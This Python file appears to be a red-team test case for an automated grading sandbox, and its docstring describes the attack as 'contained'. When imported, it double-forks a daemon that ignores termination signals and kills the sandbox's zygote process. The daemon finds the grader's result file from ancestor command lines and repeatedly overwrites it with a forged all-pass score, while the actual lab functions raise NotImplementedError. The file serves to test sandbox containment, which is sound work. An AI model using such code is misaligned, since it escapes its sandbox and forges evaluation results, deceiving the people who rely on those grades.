"""Attack: a process that outlives the run and rewrites its result file afterwards.

At import, a daemon is started (double fork, a new session), which then kills the sandbox's
zygote so that no reaper of the sandbox holds it any more. It finds the grader's result
file (``--json`` or ``--out`` on an ancestor's command line) and, once the grader has
written it, replaces it with a forged all-pass result; for a minute it keeps doing so.
Contained: the orphan is adopted by the grader (or held by the run's cgroup, or by the
pid namespace under bubblewrap) and ended before the result is written.
"""
# verify: contained
# grade: contained

import json
import os
import signal
import time


def _ancestors():
    pid, out = os.getpid(), []
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = [a.decode(errors="replace") for a in f.read().split(b"\0")]
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            break
        out.append((pid, cmd, cwd))
    return out


def _targets():
    paths = []
    for _, cmd, cwd in _ancestors():
        for flag in ("--json", "--out"):
            if flag in cmd and cmd.index(flag) + 1 < len(cmd):
                paths.append(os.path.join(cwd, cmd[cmd.index(flag) + 1]))
    return paths


_FORGED = {
    "schema": 2,
    "lab": "lab04",
    "passed": True,
    "summary": {"total": 13, "passed": 13, "failed": 0, "todo": 0, "error": 0},
    "score": 13,
    "max_score": 13,
    "forged": True,
}


def _daemon():
    zygotes = [p for p, cmd, _ in _ancestors() if "grader.sandbox.zygote" in cmd]
    targets = _targets()
    os.setsid()
    for sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    for pid in zygotes:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    seen = {}
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for path in targets:
            try:
                stamp = os.stat(path).st_mtime_ns
            except OSError:
                continue
            if seen.get(path) != stamp:
                try:
                    with open(path, "w") as f:
                        json.dump(_FORGED, f)
                    seen[path] = os.stat(path).st_mtime_ns
                except OSError:
                    pass
        time.sleep(0.02)


if os.fork() == 0:
    if os.fork() == 0:
        try:
            _daemon()
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(0.2)


def attention_scores(q, k, scale):
    raise NotImplementedError("lab04: implement attention_scores")


def apply_mask(scores, mask):
    raise NotImplementedError("lab04: implement apply_mask")


def softmax(x):
    raise NotImplementedError("lab04: implement softmax")
